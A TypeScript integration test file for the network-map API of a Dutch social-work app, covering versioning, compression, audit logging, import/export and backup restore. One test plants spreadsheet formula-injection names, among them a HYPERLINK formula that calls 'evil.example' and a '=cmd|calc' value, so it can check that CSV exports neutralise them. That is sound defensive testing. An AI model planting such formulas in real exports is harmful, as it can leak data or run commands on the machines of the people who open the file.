import zlib from 'node:zlib';
import { parse } from 'csv-parse/sync';
import { analyse } from '../../../shared/network/analysis.js';
import { type Alter, type MapModelId, mapModels } from '../../../shared/network/model.js';
import type { MapAlter, MapData } from './answers.js';
import { buildApp } from '../../app.js';
import { createBackup, restoreBackup } from '../../db/backup.js';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import {
  activateCoachMatch,
  daysAgo,
  type Client,
  engines,
  openTestDatabase,
  type SeededOrg,
  seedOwnOrganisation,
  signedIn,
  startTestApp,
  type TestApp,
} from '../../testing/harness.js';
import { insertConsent, insertPerson } from '../../testing/factories.js';

// Every field of the map's answer type (answers.ts), checked at compile time to be complete: the
// JSON the server keeps and sends per content tag must have exactly these.
const mapFields = {
  id: 1,
  personId: 1,
  kind: 1,
  label: 1,
  labelNote: 1,
  takenOn: 1,
  model: 1,
  version: 1,
} satisfies Record<keyof MapData['map'], 1>;
const alterFields = {
  id: 1,
  key: 1,
  name: 1,
  kind: 1,
  deceased: 1,
  relationship: 1,
  sector: 1,
  closeness: 1,
  channel: 1,
  frequency: 1,
  yearsKnown: 1,
  quality: 1,
  reachability: 1,
  status: 1,
  formal: 1,
  mayBeOverburdened: 1,
  receives: 1,
  gives: 1,
  note: 1,
  strategy: 1,
  placed: 1,
} satisfies Record<keyof MapAlter, 1>;

/** What the browser shows: the shared analysis over the map as the API returns it. */
const analysed = (body: { map: { model: MapModelId }; alters: Alter[]; ties: { a: string; b: string }[] }) =>
  analyse({ rings: mapModels[body.map.model].rings.length, alters: body.alters, ties: body.ties });

describe.each(engines)('network maps on %s', (engine) => {
  let t: TestApp;
  let org: SeededOrg;
  let coordinator: Client;
  let coach: Client;
  let person: string;

  beforeAll(async () => {
    t = await startTestApp(engine);
  });
  // Each test has an organisation and a client of its own: the ring names, the map model and the
  // matches one test sets cannot change what another sees.
  beforeEach(async () => {
    org = await seedOwnOrganisation(t.database, `net-${engine}-`);
    [coordinator, coach] = await Promise.all([
      signedIn(t.app, org.users.coordinator.email),
      signedIn(t.app, org.users.coach.email),
    ]);
    person = await insertPerson(t.database, org, { firstName: 'Truus' });
    await insertConsent(t.database, org, person, daysAgo(400));
  });
  afterAll(() => t.close());

  async function newMap(label = 'start', copyFromMapId?: string) {
    const created = await coordinator.post(`/api/persons/${person}/maps`, {
      kind: 'snapshot',
      label,
      takenOn: '2026-02-01',
      ...(copyFromMapId ? { copyFromMapId } : {}),
    });
    expect(created.status).toBe(201);
    return created.body.id as string;
  }

  it('quick-adds names, warns about duplicates, and analyses the map', async () => {
    const map = await newMap();
    const added = await coordinator.post(`/api/maps/${map}/alters`, {
      version: 1,
      alters: ['Ans', 'Kees', 'ans', 'Buurman Piet'].map((name) => ({ name })),
    });
    expect(added.status).toBe(200);
    expect(added.body).toMatchObject({ version: 2, warnings: ['duplicate_names'] });
    const read = await coordinator.get(`/api/maps/${map}`);
    expect(read.body.alters.map((a: { name: string }) => a.name)).toEqual(['Ans', 'Kees', 'ans', 'Buurman Piet']);
    expect(analysed(read.body).size).toEqual({ total: 4, byRing: [0, 4, 0], notActive: 0 });
    expect(read.body.map.model).toBe('three_circles');
    expect(read.body.warnings).toEqual(['duplicate_names']);
    expect(read.headers['content-type']).toMatch(/^application\/json/);
    // The body has exactly the fields the web app's type declares (MapData in answers.ts).
    expect(Object.keys(read.body).sort()).toEqual(['alters', 'map', 'ties', 'warnings']);
    expect(Object.keys(read.body.map).sort()).toEqual(Object.keys(mapFields).sort());
    expect(Object.keys(read.body.alters[0]).sort()).toEqual(Object.keys(alterFields).sort());
  });

  it('keeps quick-added names beside the map until someone places them, and counts them only then', async () => {
    const map = await newMap();
    const { ids } = (
      await coordinator.post(`/api/maps/${map}/alters`, {
        version: 1,
        alters: [{ name: 'Oma Truus', placed: false }, { name: 'Buurman Ali', placed: false }, { name: 'Zus' }],
      })
    ).body;
    let read = (await coordinator.get(`/api/maps/${map}`)).body;
    expect(read.alters.map((a: Alter) => [a.name, a.placed])).toEqual([
      ['Oma Truus', false],
      ['Buurman Ali', false],
      ['Zus', true],
    ]);
    // Not yet placed: their default ring and sector are nobody's choice, so the analysis leaves them out.
    expect(analysed(read).size.total).toBe(1);
    expect(analysed(read).unplaced).toBe(2);
    // Choosing a ring places Oma; changing only her name would not have.
    await coordinator.patch(`/api/maps/${map}/alters/${ids[1]}`, { version: 2, changes: { name: 'Buurman Ali B.' } });
    await coordinator.patch(`/api/maps/${map}/alters/${ids[0]}`, { version: 3, changes: { closeness: 1 } });
    read = (await coordinator.get(`/api/maps/${map}`)).body;
    expect(read.alters.map((a: Alter) => [a.name, a.placed, a.closeness])).toEqual([
      ['Oma Truus', true, 1],
      ['Buurman Ali B.', false, 2],
      ['Zus', true, 2],
    ]);
    expect(analysed(read).size).toEqual({ total: 2, byRing: [1, 1, 0], notActive: 0 });
    // A copy for the next moment keeps who still waits.
    const copy = await newMap('mid_term', map);
    const copied = (await coordinator.get(`/api/maps/${copy}`)).body.alters;
    expect(copied.find((a: Alter) => a.name === 'Buurman Ali B.').placed).toBe(false);
    expect(
      (await coordinator.patch(`/api/maps/${map}/alters/${ids[1]}`, { version: 4, changes: { placed: 'ja' } })).status,
    ).toBe(400);
  });

  it('warns about duplicate names in any alphabet when the map is read', async () => {
    const map = await newMap();
    await coordinator.post(`/api/maps/${map}/alters`, { version: 1, alters: [{ name: 'Ölçer' }, { name: 'Kees' }] });
    expect((await coordinator.get(`/api/maps/${map}`)).body.warnings).toEqual([]);
    const added = await coordinator.post(`/api/maps/${map}/alters`, { version: 2, alters: [{ name: 'ÖLÇER' }] });
    expect(added.body.warnings).toEqual(['duplicate_names']);
    expect((await coordinator.get(`/api/maps/${map}`)).body.warnings).toEqual(['duplicate_names']);
  });

  it('moves an alter inward, sets support both ways, and refuses a stale version', async () => {
    const map = await newMap();
    const { ids } = (
      await coordinator.post(`/api/maps/${map}/alters`, {
        version: 1,
        alters: [{ name: 'Zus' }, { name: 'Buurvrouw' }],
      })
    ).body;
    const moved = await coordinator.patch(`/api/maps/${map}/alters/${ids[0]}`, {
      version: 2,
      changes: { closeness: 1, sector: 'family', receives: ['emotional', 'practical'], gives: ['emotional'] },
    });
    expect(moved.body.version).toBe(3);
    const stale = await coach.patch(`/api/maps/${map}/alters/${ids[1]}`, { version: 2, changes: { closeness: 1 } });
    expect(stale.status).toBe(404); // the coach is not (yet) linked to this person
    const conflict = await coordinator.patch(`/api/maps/${map}/alters/${ids[1]}`, {
      version: 2,
      changes: { closeness: 3 },
    });
    expect(conflict.status).toBe(409);
    expect(conflict.body.message).toMatch(/Iemand anders heeft deze netwerkkaart net gewijzigd/);
    const read = (await coordinator.get(`/api/maps/${map}`)).body;
    expect(analysed(read).size.byRing).toEqual([1, 1, 0]);
    expect(analysed(read).reciprocity.perAlter[ids[0]]).toBe('both');
    expect(analysed(read).support.perType.emotional).toEqual({ providers: 1, vulnerable: true });
    const outside = await coordinator.patch(`/api/maps/${map}/alters/${ids[1]}`, {
      version: 3,
      changes: { closeness: 4, sector: 'society' },
    });
    expect(outside.status).toBe(400);
    expect(outside.body.fields.map((f: { path: string }) => f.path).sort()).toEqual([
      'changes.closeness',
      'changes.sector',
    ]);
  });

  it('copies a snapshot so the next one can be compared with it', async () => {
    const start = await newMap('start');
    const { ids } = (
      await coordinator.post(`/api/maps/${start}/alters`, {
        version: 1,
        alters: [
          { name: 'Oom', closeness: 3 },
          { name: 'Vriendin', closeness: 2 },
        ],
      })
    ).body;
    await coordinator.put(`/api/maps/${start}/ties`, {
      version: 2,
      ties: [
        { a: ids[0], b: ids[1] },
        { a: ids[1], b: ids[0] },
      ],
    });
    const mid = await newMap('mid_term', start);
    expect((await coordinator.get(`/api/maps/compare?from=${start}&to=${mid}`)).body).toMatchObject({
      added: [],
      lost: [],
      movedInward: [],
      movedOutward: [],
    });
    const midMap = (await coordinator.get(`/api/maps/${mid}`)).body;
    expect(analysed(midMap).density).toBe(1);
    const oom = midMap.alters.find((a: { name: string }) => a.name === 'Oom');
    await coordinator.patch(`/api/maps/${mid}/alters/${oom.id}`, {
      version: midMap.map.version,
      changes: { closeness: 2 },
    });
    await coordinator.post(`/api/maps/${mid}/alters`, {
      version: midMap.map.version + 1,
      alters: [{ name: 'Koorlid', sector: 'clubs' }],
    });
    const comparison = (await coordinator.get(`/api/maps/compare?from=${start}&to=${mid}`)).body;
    expect(comparison.movedInward).toEqual([expect.objectContaining({ name: 'Oom', from: 3, to: 2 })]);
    expect(comparison.added).toHaveLength(1);
    expect(comparison.size).toEqual({ before: 2, after: 3 });
    const list = (await coordinator.get(`/api/persons/${person}/maps`)).body;
    expect(
      list
        .filter((m: { id: string }) => [start, mid].includes(m.id))
        .map((m: { label: string; alters: number }) => [m.label, m.alters]),
    ).toEqual([
      ['start', 2],
      ['mid_term', 3],
    ]);
  });

  it('sends a large map compressed to a browser that accepts it, and plain to one that does not', async () => {
    const map = await newMap();
    const names = Array.from({ length: 60 }, (_, i) => ({
      name: `Buurvrouw ${i}`,
      receives: ['practical'],
      gives: ['companionship'],
    }));
    expect((await coordinator.post(`/api/maps/${map}/alters`, { version: 1, alters: names })).status).toBe(200);
    const read = (encoding?: string) =>
      t.app.inject({
        method: 'GET',
        url: `/api/maps/${map}`,
        headers: { cookie: coordinator.cookie!, ...(encoding ? { 'accept-encoding': encoding } : {}) },
      });
    const plain = await read();
    expect(plain.headers['content-encoding']).toBeUndefined();
    for (const [encoding, unpack] of [
      ['br', zlib.brotliDecompressSync],
      ['gzip', zlib.gunzipSync],
    ] as const) {
      const packed = await read(`${encoding}, deflate`);
      expect(packed.headers['content-encoding']).toBe(encoding);
      expect(packed.rawPayload.length).toBeLessThan(plain.rawPayload.length / 4);
      expect(JSON.parse(unpack(packed.rawPayload).toString('utf8'))).toEqual(plain.json());
    }
    // A compressed copy belongs to one version: after a change the next read shows the change.
    expect(
      (await coordinator.post(`/api/maps/${map}/alters`, { version: 2, alters: [{ name: 'Nieuwe buurman' }] })).status,
    ).toBe(200);
    const after = JSON.parse(zlib.brotliDecompressSync((await read('br')).rawPayload).toString('utf8'));
    expect(after.map.version).toBe(3);
    expect(after.alters.at(-1).name).toBe('Nieuwe buurman');
  });

  it('holds up to 500 people per map and explains the limit beyond it, changing nothing', async () => {
    const map = await newMap();
    const many = Array.from({ length: 500 }, (_, i) => ({ name: `Persoon ${i + 1}` }));
    expect((await coordinator.post(`/api/maps/${map}/alters`, { version: 1, alters: many })).status).toBe(200);
    const beyond = await coordinator.post(`/api/maps/${map}/alters`, { version: 2, alters: [{ name: 'Nog een' }] });
    expect(beyond.status).toBe(400);
    expect(beyond.body.message).toBe('Een netwerkkaart kan hoogstens 500 mensen bevatten. Er is nog ruimte voor 0.');
    const read = (await coordinator.get(`/api/maps/${map}`)).body;
    expect(read.alters).toHaveLength(500);
    expect(read.map.version).toBe(2);
  });

  it('keeps any Unicode name as text and refuses names over 200 characters', async () => {
    const map = await newMap();
    const ok = await coordinator.post(`/api/maps/${map}/alters`, {
      version: 1,
      alters: [{ name: '<b>Öma</b> 李 🐕' }],
    });
    expect(ok.status).toBe(200);
    expect((await coordinator.get(`/api/maps/${map}`)).body.alters[0].name).toBe('<b>Öma</b> 李 🐕');
    const long = await coordinator.post(`/api/maps/${map}/alters`, { version: 2, alters: [{ name: 'x'.repeat(201) }] });
    expect(long.status).toBe(400);
    expect(long.body.fields[0]).toEqual({ path: 'alters.0.name', message: 'Gebruik hoogstens 200 tekens.' });
  });

  it('lets a matched coach work on the map, audits reads and changes, and ends access when the match ends', async () => {
    const map = await newMap();
    const { matchId } = await activateCoachMatch(coordinator, org.users.coach.id, person);
    const added = await coach.post(`/api/maps/${map}/alters`, {
      version: 1,
      alters: [{ name: 'Hond Bobby', kind: 'pet', closeness: 1, sector: 'family', receives: ['companionship'] }],
    });
    expect(added.status).toBe(200);
    expect((await coach.get(`/api/maps/${map}`)).status).toBe(200);
    await coordinator.post(`/api/matches/${matchId}/end`, { on: daysAgo(0), reason: 'Afgerond' });
    expect((await coach.get(`/api/maps/${map}`)).status).toBe(404);
    const rows = await t.database.db
      .selectFrom('audit_log')
      .select(['user_role', 'action', 'record_type', 'outcome'])
      .where('record_id', '=', map)
      .execute();
    expect(rows.map((r) => `${r.user_role}:${r.action}:${r.outcome}`)).toEqual(
      expect.arrayContaining(['coordinator:create:ok', 'coach:update:ok', 'coach:read:ok', 'coach:read:denied']),
    );
  });

  it('shows every change on the next read and audits every read, also when the map is unchanged', async () => {
    // The server keeps recently read maps in memory per content tag (body-cache.ts): this proves a
    // reread never shows an older map, whatever kind of change came in between.
    const map = await newMap();
    const { ids } = (
      await coordinator.post(`/api/maps/${map}/alters`, {
        version: 1,
        alters: [{ name: 'Oom Henk' }, { name: 'Tante Riet' }],
      })
    ).body;
    const names = async () => (await coordinator.get(`/api/maps/${map}`)).body;
    expect((await names()).alters).toHaveLength(2);
    expect((await names()).map.version).toBe(2);
    await coordinator.patch(`/api/maps/${map}/alters/${ids[0]}`, {
      version: 2,
      changes: { name: 'Oom Hendrik', gives: ['advice'] },
    });
    expect((await names()).alters[0]).toMatchObject({ name: 'Oom Hendrik', gives: ['advice'] });
    await coordinator.put(`/api/maps/${map}/ties`, { version: 3, ties: [{ a: ids[0], b: ids[1] }] });
    const [tie] = (await names()).ties;
    expect([tie.a, tie.b].sort()).toEqual([...ids].sort()); // stored as an unordered pair
    expect((await coordinator.request('DELETE', `/api/maps/${map}/alters/${ids[1]}?version=4`)).status).toBe(200);
    const afterDelete = await names();
    expect(afterDelete.alters.map((a: { name: string }) => a.name)).toEqual(['Oom Hendrik']);
    expect(afterDelete.ties).toEqual([]);
    await coordinator.post(`/api/maps/${map}/import`, {
      version: 5,
      format: 'csv',
      content: 'name,closeness\nBuurman Ali,2\n',
      dryRun: false,
    });
    expect((await names()).alters.map((a: { name: string }) => a.name)).toEqual(['Oom Hendrik', 'Buurman Ali']);
    const reads = await t.database.db
      .selectFrom('audit_log')
      .select('id')
      .where('record_id', '=', map)
      .where('action', '=', 'read')
      .execute();
    expect(reads).toHaveLength(6);
  });

  it('never serves a kept copy of a map after the database was restored to another state', async () => {
    // The server keeps each map's answer per content tag. A restore or point-in-time recovery can
    // bring a map back at a version number the server has already seen with other content; the
    // random tag makes the server read the map again. Both apps run in this process and so share
    // the server's copies, as one Kring process would before and after a restore.
    const map = await newMap();
    const [alter] = (await coordinator.post(`/api/maps/${map}/alters`, { version: 1, alters: [{ name: 'Ans' }] })).body
      .ids;
    const backup = JSON.parse(JSON.stringify(await createBackup(t.database.db)));
    await coordinator.patch(`/api/maps/${map}/alters/${alter}`, { version: 2, changes: { name: 'Bob' } });
    expect((await coordinator.get(`/api/maps/${map}`)).body).toMatchObject({
      map: { version: 3 },
      alters: [{ name: 'Bob' }],
    });

    const restored = await openTestDatabase(engine);
    await restoreBackup(restored.db, backup);
    const app = await buildApp({ db: restored.db, publicUrl: 'http://kring.test', webDir: null, logger: false });
    try {
      const after = await signedIn(app, org.users.coordinator.email);
      // The map is back at version 2; a worker who still has it open changes it.
      const change = { version: 2, changes: { name: 'Carla' } };
      expect((await after.patch(`/api/maps/${map}/alters/${alter}`, change)).status).toBe(200);
      // Version 3 again, but not the version 3 the server saw before the restore.
      expect((await after.get(`/api/maps/${map}`)).body).toMatchObject({
        map: { version: 3 },
        alters: [{ name: 'Carla' }],
      });
    } finally {
      await app.close();
      await restored.close();
    }
  });

  it('writes names that look like spreadsheet formulas as plain text in every CSV export', async () => {
    const map = await newMap();
    const names = ['=HYPERLINK("http://evil.example/?"&A1,"x")', '@SUM(A1)', '+31 6 1234'];
    const ids = (
      await coordinator.post(`/api/maps/${map}/alters`, { version: 1, alters: names.map((name) => ({ name })) })
    ).body.ids;
    await coordinator.put(`/api/maps/${map}/ties`, { version: 2, ties: [{ a: ids[0], b: ids[1] }] });
    const csv = async (format: string): Promise<Record<string, string>[]> =>
      parse((await coordinator.get(`/api/maps/${map}/export?format=${format}`)).body, { columns: true });
    const nodes = await csv('csv');
    expect(nodes.map((r) => r.name).sort()).toEqual(names.map((n) => `'${n}`).sort());
    const ties = await csv('csv_ties');
    expect([ties[0].a_name, ties[0].b_name].every((n) => names.map((x) => `'${x}`).includes(n))).toBe(true);

    // The audit export names users; a display name is typed by an administrator.
    const admin = await signedIn(t.app, org.users.admin.email);
    await admin.patch(`/api/users/${org.users.coordinator.id}`, { displayName: '=cmd|calc' });
    const exported = (await admin.get(`/api/audit/export?personId=${person}`)).body.replace(/^\uFEFF/, '');
    // A Dutch spreadsheet: semicolons, headings in Dutch, times on the Dutch clock.
    const audit: Record<string, string>[] = parse(exported, { columns: true, delimiter: ';' });
    expect(audit.length).toBeGreaterThan(0);
    expect(audit[0].Tijdstip).toMatch(/^\d{4}-\d\d-\d\d \d\d:\d\d:\d\d$/);
    expect(audit.every((r) => !/^[=+\-@]/.test(r.Gebruiker))).toBe(true);
    expect(audit.map((r) => r.Gebruiker)).toContain("'=cmd|calc");
  });

  it('imports all or nothing, and records every export as an export', async () => {
    const map = await newMap();
    const bad = await coordinator.post(`/api/maps/${map}/import`, {
      version: 1,
      format: 'csv',
      content: 'name,closeness\nAns,1\nPiet,9\n',
      dryRun: false,
    });
    expect(bad.body).toMatchObject({
      imported: false,
      errors: [{ line: 3, field: 'closeness', message: 'Vul een getal in van hoogstens 4.' }],
    });
    expect((await coordinator.get(`/api/maps/${map}`)).body.alters).toEqual([]);
    const good = await coordinator.post(`/api/maps/${map}/import`, {
      version: 1,
      format: 'csv',
      content: 'name,closeness,receives\nAns,1,emotional practical\nPiet,2,\n',
      dryRun: false,
    });
    expect(good.body).toMatchObject({ imported: true, names: ['Ans', 'Piet'], version: 2 });
    const csv = await coordinator.get(`/api/maps/${map}/export?format=csv`);
    expect(csv.headers['content-disposition']).toMatch(/attachment; filename="netwerkkaart-2026-02-01.csv"/);
    expect(csv.body).toContain('emotional practical');
    const roundTrip = await coordinator.post(`/api/maps/${map}/import`, {
      version: 2,
      format: 'json',
      content: JSON.stringify((await coordinator.get(`/api/maps/${map}/export?format=json`)).body),
      dryRun: true,
    });
    expect(roundTrip.body).toMatchObject({ names: ['Ans', 'Piet'], errors: [], imported: false });
    // A note about a network member may be sensitive: it never leaves Kring in a map export.
    const alters = (await coordinator.get(`/api/maps/${map}`)).body.alters;
    await coordinator.patch(`/api/maps/${map}/alters/${alters[0].id}`, {
      version: 2,
      note: 'Drinkt te veel sinds de scheiding',
    });
    for (const format of ['json', 'csv', 'graphml']) {
      const file = await coordinator.get(`/api/maps/${map}/export?format=${format}`);
      expect(JSON.stringify(file.body), format).not.toContain('scheiding');
    }
    const exports = await t.database.db
      .selectFrom('audit_log')
      .select('detail')
      .where('record_id', '=', map)
      .where('action', '=', 'export')
      .execute();
    expect(exports.map((r) => r.detail).sort()).toEqual([
      'format:csv',
      'format:csv',
      'format:graphml',
      'format:json',
      'format:json',
    ]);
  });

  it('uses the Lensink model for new maps when the organisation chooses it, and old maps keep theirs', async () => {
    const old = await newMap();
    const admin = await signedIn(t.app, org.users.admin.email);
    expect((await admin.patch('/api/organisation', { networkModel: 'lensink' })).status).toBe(200);
    const lensink = await newMap();
    const added = await coordinator.post(`/api/maps/${lensink}/alters`, {
      version: 1,
      alters: [
        { name: 'Maatje', closeness: 4, sector: 'society' },
        { name: 'Medebewoner', sector: 'fellow_clients' },
      ],
    });
    expect(added.status).toBe(200);
    const read = (await coordinator.get(`/api/maps/${lensink}`)).body;
    expect(read.map.model).toBe('lensink');
    expect(analysed(read).size.byRing).toEqual([0, 1, 0, 1]);
    expect((await coordinator.get(`/api/maps/${old}`)).body.map.model).toBe('three_circles');
    const wrong = await coordinator.post(`/api/maps/${old}/alters`, {
      version: 1,
      alters: [{ name: 'X', sector: 'society' }],
    });
    expect(wrong.body.fields).toEqual([
      { path: 'alters.0.sector', message: 'Dit deel hoort niet bij het model van deze kaart.' },
    ]);
    await admin.patch('/api/organisation', { networkModel: 'three_circles' });
  });

  it('lets the organisation rename rings and sectors, refusing unknown names', async () => {
    const admin = await signedIn(t.app, org.users.admin.email);
    expect(
      (
        await admin.patch('/api/organisation', {
          networkLabels: {
            'rings.three_circles.personal': 'Dichtbij',
            'sectors.clubs': 'Vrije tijd',
            'sectors.family': '',
          },
        })
      ).status,
    ).toBe(200);
    expect((await admin.get('/api/organisation')).body.networkLabels).toEqual({
      'rings.three_circles.personal': 'Dichtbij',
      'sectors.clubs': 'Vrije tijd',
    });
    expect((await coordinator.get('/api/auth/session')).body.organisation.networkLabels['sectors.clubs']).toBe(
      'Vrije tijd',
    );
    const bad = await admin.patch('/api/organisation', {
      networkLabels: { 'rings.other.x': 'Nee', 'sectors.family': 'x'.repeat(61) },
    });
    expect(bad.status).toBe(400);
    await admin.patch('/api/organisation', { networkLabels: {} });
  });
});
